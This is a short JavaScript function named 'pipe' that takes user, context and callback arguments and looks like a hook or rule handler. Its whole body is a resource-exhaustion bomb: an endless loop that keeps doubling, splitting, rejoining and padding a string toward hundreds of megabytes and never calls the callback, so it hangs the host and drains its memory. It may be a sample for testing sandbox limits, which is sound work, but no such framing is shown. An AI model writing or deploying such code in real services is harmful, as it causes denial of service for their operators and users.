function pipe(user, context, callback) {
  let s = 'x'.repeat(1 << 20);
  for (;;) s = (s + s).split('').join('y').padEnd(1 << 29, s);
}
